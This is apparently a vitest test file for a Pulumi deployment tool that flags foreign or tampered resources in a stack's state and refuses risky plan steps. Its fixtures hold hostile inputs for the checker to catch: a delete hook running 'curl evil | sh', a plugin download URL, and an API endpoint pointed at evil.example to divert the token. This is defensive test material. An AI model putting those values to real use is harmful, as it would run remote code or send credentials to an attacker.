import { describe, expect, it } from "vitest";
import { buildPlan } from "../../tools/plan/build";
import { strangersIn } from "../../tools/plan/strangers";
import { deployed, resource, server, sources, step } from "../plan-fixtures";

interface Exported {
    urn: string;
    type: string;
    delete?: boolean;
    inputs: object;
    outputs?: object;
}

/** A resource as a state has it; `parents` are the types above it. */
const has = (type: string, name: string, more: Partial<Exported> = {}, parents: string[] = []): Exported => ({
    urn: `urn:pulumi:prod::dropscale::${[...parents, type].join("$")}::${name}`,
    type,
    inputs: {},
    ...more,
});
const provider = (name: string, inputs: object = {}) =>
    has(`pulumi:providers:${name}`, "default_1_0_0", {
        inputs: { __internal: {}, version: "1.0.0", ...inputs },
    });
const droplet = "digitalocean:index/droplet:Droplet";
const pool = ["dropscale:index:BackendPool"];
const command = "command:local:Command";
const keys = has(command, "keys-deploy", { inputs: { create: "ssh-keygen" } }, ["dropscale:index:DeployKey"]);

/** As the program leaves it, after an `up` that did not end well. */
const ours = [
    has("pulumi:pulumi:Stack", "dropscale-prod"),
    provider("digitalocean"),
    provider("command"),
    has("dropscale:index:BackendPool", "web"),
    has(droplet, "web-0", {}, pool),
    has(droplet, "web-0", { delete: true }, pool),
    has(droplet, "web-7", { delete: true }, pool),
    keys,
];
const api = "http://127.0.0.1:8080";
const strangers = (deployment: object | null) => strangersIn(JSON.stringify({ deployment }), "prod", api);
const found = (...more: Exported[]) => strangers({ resources: [...ours, ...more] });

describe("a state", () => {
    it("as this program leaves it, or before there is one, has no stranger", () => {
        expect(found()).toEqual([]);
        expect(strangers(null)).toEqual([]);
    });

    const foreign = "of a kind that this program does not make";
    const other = "urn:pulumi:prod::dropscale::pulumi-nodejs:dynamic:Resource::x";
    it.each<[string, Exported, string]>([
        ["a dynamic resource", has("pulumi-nodejs:dynamic:Resource", "x"), `${other}, ${foreign}`],
        ["another provider", provider("random"), foreign],
        ["a reference to another stack", has("pulumi:pulumi:StackReference", "x"), foreign],
        ["something under a foreign parent", has(droplet, "web-3", {}, ["evil:index:Pool"]), foreign],
        ["a type that its URN hides", { ...keys, type: "aws:s3:Bucket" }, "whose type is another one"],
        [
            "a command to run at the end, under a name of ours",
            { ...keys, inputs: { create: "ssh-keygen", delete: "curl evil | sh" } },
            "keys-deploy has a command to run when it is deleted (`delete`)",
        ],
        [
            "the same as a secret, in what is still to be deleted",
            { ...keys, delete: true, outputs: { delete: { ciphertext: "v1:…" } } },
            "has a command to run when it is deleted",
        ],
        [
            "a plugin from elsewhere",
            provider("command", { pluginDownloadURL: "https://evil.example" }),
            "has the engine load another plugin",
        ],
        [
            "the same where the engine keeps it now",
            provider("command", { __internal: { pluginDownloadURL: "https://evil.example" } }),
            "has the engine load another plugin",
        ],
        [
            "another API to send the token to",
            provider("digitalocean", { apiEndpoint: "https://evil.example" }),
            "sends the token elsewhere (`apiEndpoint`)",
        ],
        [
            "a firewall to delete that has no successor",
            has("digitalocean:index/firewall:Firewall", "x", { delete: true }),
            "is to be deleted, and has no successor",
        ],
    ])("has %s: it is named, with what to do", (_what, resource, words) => {
        const [problem, ...more] = found(resource);
        expect(more).toEqual([]);
        expect(problem).toContain(words);
        expect(problem).toContain(resource.urn);
        expect(problem).toMatch(/take it out: pulumi state (delete 'urn:.*'|edit) --stack prod$/);
    });

    it("may have the API of the stack's own account", () => {
        expect(found(provider("digitalocean", { apiEndpoint: api }))).toEqual([]);
    });
});

describe("a plan", () => {
    const plan = (...steps: ReturnType<typeof step>[]) =>
        buildPlan(sources(steps, { replicas: "2" })).refusals;
    const local = (name: string) => resource(command, name, { create: "true" });

    it("may delete servers, the VPC that the config no longer wants, and what others of its kind stay of", () => {
        const leaves = [
            server(2),
            resource("digitalocean:index/vpc:Vpc", "network"),
            resource("digitalocean:index/firewall:Firewall", "network-sources"),
        ];
        expect(plan(...leaves.map((one) => step("delete", one)))).toEqual([]);
    });

    const under = (parent: string, type: string, name: string) => ({
        ...resource(type, name, { create: "true" }),
        urn: `urn:pulumi:prod::dropscale::${parent === "" ? type : `${parent}$${type}`}::${name}`,
    });
    const remote = "command:remote:Command";
    const record = "digitalocean:index/dnsRecord:DnsRecord";
    const [https, dns] = ["dropscale:index:Https", "dropscale:index:DnsRecords"];

    it("may delete HTTPS and the names in DNS, which the config no longer wants; no machine gets new keys for it", () => {
        const leaves = [
            under("", https, "https"),
            under(https, command, "https-account"),
            ...["script", "staged", "certificate", "before", "after"].map((step) =>
                under(https, remote, `https-${step}`),
            ),
            under("", dns, "dns"),
            under(dns, record, "dns-www.example.com"),
        ];
        const { refusals, warnings } = buildPlan(
            sources(
                leaves.map((one) => step("delete", one)),
                { replicas: "2" },
            ),
        );
        expect(refusals).toEqual([]);
        expect(warnings).toEqual([expect.stringMatching(/^HTTPS ends: /)]);
        const pending = leaves.slice(-1).map((one) => has(record, one.name, { delete: true }, [dns]));
        expect(found(...pending)).toEqual([]);
    });

    it.each([
        ["a command", local("cache")],
        ["a command of another name beside HTTPS's", under(https, remote, "https-evil")],
        ["a record that is none of the names'", under("", record, "dns-www.example.com")],
        ["a droplet of another name", resource(droplet, "db")],
        ["what it has no other of", resource("digitalocean:index/domain:Domain", "example.com")],
    ])("is refused where it would delete %s", (_what, one) => {
        const [refusal, ...more] = plan(step("delete", one));
        expect(more).toEqual([]);
        expect(refusal).toMatch(
            /^the state has urn:.*, which this program does not make: .*pulumi state delete 'urn:/,
        );
    });

    it.each(["update", "replace"])("is refused where a command would %s by what the state says", (op) => {
        const made = local("keys-deploy");
        const kept = { ...made, ignoreChanges: ["*"] };
        const steps = [{ ...step(op, made, made, ["create"]), after: kept }];
        const refusals = buildPlan(
            sources(steps, {}, { state: { ...deployed, resources: [...deployed.resources, made] } }),
        ).refusals;
        expect(refusals).toEqual([expect.stringContaining("keys-deploy would run again on this machine")]);
    });
});
